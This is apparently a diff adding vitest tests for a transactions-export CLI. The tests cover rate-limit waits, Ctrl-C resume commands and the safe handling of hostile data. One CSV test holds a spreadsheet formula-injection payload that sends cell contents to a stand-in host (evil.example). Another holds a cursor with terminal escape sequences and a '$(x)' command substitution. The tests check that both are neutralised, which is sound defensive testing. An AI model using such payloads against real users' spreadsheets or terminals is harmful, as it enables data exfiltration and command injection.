@@ -1,10 +1,12 @@
-import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
+import { spawnSync } from 'node:child_process';
+import { lstat, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
 import { startFakeServer, type FakeServer } from '../../../src/testing/index.js';
 import { runCli } from '../../../src/cli/dispatch.js';
 import { cli, memoryIO } from '../../helpers/cli-run.js';
+import { terminalControl } from '../../helpers/terminal-controls.js';
 
 const COUNT = 1234;
 let dir: string;
@@ -65,6 +67,33 @@ async function failingServer(failAt: number) {
       fake.faults.clear();
     },
   };
+}
+
+/**
+ * A fake of 5 transactions whose `at`-th GET /transactions answers 429 with `X-RateLimit-Reset`
+ * `resetInS` seconds away (spent window, no `Retry-After`); and the cursor of its second page of 2.
+ */
+async function rateLimitedServer(at: number, resetInS: number) {
+  const started = await startFakeServer({ transactions: 5 });
+  const { fake } = started;
+  const first = await fetch(`${started.baseUrl}/transactions?limit=2`, { headers: { 'x-api-key': started.apiKey } });
+  const secondCursor: string = (await first.json()).data.nextCursor;
+  await started.close();
+  let seen = 0;
+  const s = await startFakeServer({
+    fake: {
+      ...fake,
+      handle(request: Request, context?: { clientAddress?: string }) {
+        if (new URL(request.url).pathname.endsWith('/transactions') && ++seen === at) {
+          const reset = String(Math.ceil(Date.now() / 1000) + resetInS);
+          const headers = { 'x-ratelimit-remaining': '0', 'x-ratelimit-reset': reset };
+          fake.faults.inject({ path: '/transactions', kind: 'status', status: 429, headers });
+        }
+        return fake.handle(request, context);
+      },
+    },
+  });
+  return { server: s, secondCursor };
 }
 
 /** The arguments of the printed resume command (`npx credit-platform ...`), unquoted. */
@@ -197,5 +226,128 @@ describe('credit-platform transactions export', () => {
       expect(result.code).toBe(2);
       expect(result.stdout).toBe('');
     }
+  });
+
+  it('writes hostile cells inert in CSV, and NDJSON with every value as it came', async () => {
+    server = await startFakeServer({ transactions: 0 });
+    const hostile = {
+      type: '=HYPERLINK("http://evil.example/?"&A1,"x")',
+      status: '@SUM(1)',
+      token: '\tx',
+      chain: '\rx',
+      transactionHash: '-1+1',
+      amount: '-12.50',
+    };
+    // The service's type and status are free strings; the fake's types narrow them to the known values.
+    server.fake.admin.addTransaction(server.fake.accountId, {
+      ...hostile,
+      type: hostile.type as 'deposit',
+      status: hostile.status as 'pending',
+    });
+    const csvFile = join(dir, 'hostile.csv');
+    expect((await cli(['transactions', 'export', '--format', 'csv', '--out', csvFile], { env: envOf(server) })).code).toBe(0);
+    const row = (await readFile(csvFile, 'utf8')).split('\r\n')[1] as string;
+    expect(row).toMatch(
+      /^tx_\w+,"'=HYPERLINK\(""http:\/\/evil\.example\/\?""&A1,""x""\)",'@SUM\(1\),'\tx,"'\rx",-12\.50,'-1\+1,\S+$/,
+    );
+
+    const ndjson = await cli(['transactions', 'export'], { env: envOf(server) });
+    expect(ndjson.code).toBe(0);
+    const res = await fetch(`${server.baseUrl}/transactions`, { headers: { 'x-api-key': server.apiKey } });
+    const [item] = (await res.json()).data.items;
+    expect(item).toMatchObject(hostile);
+    expect(ndjson.stdout).toBe(`${JSON.stringify(item)}\n`);
+  });
+
+  it('failing before the first page (a wrong key) prints no resume command and leaves no file', async () => {
+    server = await startFakeServer({ transactions: 3 });
+    const env = { ...envOf(server), CREDIT_PLATFORM_API_KEY: 'cpk_test_wrong_key_0000000000' };
+    for (const format of ['ndjson', 'csv']) {
+      const file = join(dir, `never.${format}`);
+      const result = await cli(['transactions', 'export', '--format', format, '--out', file], { env });
+      expect(result.code).toBe(1);
+      expect(result.stderr).toContain('failed before the first page: AuthenticationError');
+      expect(result.stderr).toContain('Nothing was written.');
+      expect(result.stderr).not.toContain('npx credit-platform');
+      await expect(lstat(file)).rejects.toThrow(/ENOENT/);
+    }
+    // A file resumed into is left exactly as it was; one replaced with --force is not emptied.
+    const kept = join(dir, 'kept.ndjson');
+    await writeFile(kept, '{"id":"tx_1"}\n');
+    for (const extra of [['--cursor', 'abc'], ['--force']]) {
+      const result = await cli(['transactions', 'export', '--out', kept, ...extra], { env });
+      expect(result.code).toBe(1);
+      expect(result.stderr).not.toContain('npx credit-platform');
+      expect(await readFile(kept, 'utf8')).toBe('{"id":"tx_1"}\n');
+    }
+  });
+
+  it.each([
+    { at: 2, ctrlC: 'Ctrl-C stops the export and prints the command that resumes it.' },
+    { at: 1, ctrlC: 'Ctrl-C stops the export; nothing is written yet.' },
+  ])('says in one line how long it waits on a rate limit (request $at), why, and what Ctrl-C does', async ({ at, ctrlC }) => {
+    server = (await rateLimitedServer(at, 1)).server;
+    const result = await cli(['transactions', 'export', '--limit', '2'], { env: envOf(server) });
+    expect(result.code).toBe(0);
+    expect(result.stdout.trimEnd().split('\n')).toHaveLength(5);
+    const waits = result.stderr.split('\n').filter((l) => l.includes('waiting'));
+    expect(waits).toHaveLength(1);
+    expect(waits[0]).toMatch(
+      /^transactions export: the key's rate limit is spent \(429\): waiting [12] s, until \d\d:\d\d:\d\d UTC, as its X-RateLimit-Reset says\. /,
+    );
+    expect(waits[0]?.endsWith(` says. ${ctrlC}`)).toBe(true);
+    // One line each, no object dump: every stderr line is a progress, wait or summary line.
+    for (const line of result.stderr.trimEnd().split('\n'))
+      expect(line).toMatch(/^(exporting: |exported |transactions export: )/);
+  });
+
+  it('Ctrl-C during a rate-limit wait stops at once with the resume command', async () => {
+    // The second page's reset is 50 s away (under maxRateLimitWait, above the test's timeout):
+    // without the abort, the export would sleep it out.
+    const limited = await rateLimitedServer(2, 50);
+    server = limited.server;
+    const { io, out, stop } = memoryIO({ env: envOf(server) });
+    io.stderr.on('data', (chunk: Buffer) => {
+      if (chunk.toString().includes('waiting')) stop();
+    });
+    const code = await runCli(['transactions', 'export', '--limit', '2'], io);
+    expect(code).toBe(130);
+    expect(out.stdout.trimEnd().split('\n')).toHaveLength(2);
+    expect(out.stderr).toContain(
+      `  npx credit-platform transactions export --format=ndjson --limit=2 --cursor=${limited.secondCursor}\n`,
+    );
+  });
+
+  it('prints a hostile cursor with no terminal escapes, in a resume command a shell reads back exactly', async () => {
+    server = await startFakeServer({ transactions: 3 });
+    const first = await fetch(`${server.baseUrl}/transactions?limit=1`, { headers: { 'x-api-key': server.apiKey } });
+    const body = await first.json();
+    const cursor = 'c1\u001b]0;owned\u0007\u001b[2J\u009b\'"$(x)';
+    body.data.nextCursor = cursor;
+    server.fake.faults.inject({
+      path: '/transactions',
+      kind: 'raw',
+      body: JSON.stringify(body),
+      headers: { 'content-type': 'application/json' },
+    });
+    server.fake.faults.inject({ path: '/transactions', kind: 'status', status: 400 });
+    const out = join(dir, 'hostile-cursor.ndjson');
+    const result = await cli(['transactions', 'export', '--out', out, '--limit', '1'], { env: envOf(server) });
+    expect(result.code).toBe(1);
+    expect(terminalControl(result.stderr)).toBeUndefined();
+    const line = result.stderr.split('\n').find((l) => l.startsWith('  npx credit-platform '));
+    expect(line).toBeDefined();
+    expect(result.stderr).toContain('run it in bash, zsh or ksh');
+    const argv = spawnSync('bash', ['-c', `set -- ${(line as string).trim()}; printf '%s\\0' "$@"`], { encoding: 'utf8' });
+    expect(argv.stdout.split('\0').slice(0, -1)).toEqual([
+      'npx',
+      'credit-platform',
+      'transactions',
+      'export',
+      '--format=ndjson',
+      `--out=${out}`,
+      '--limit=1',
+      `--cursor=${cursor}`,
+    ]);
   });
 });
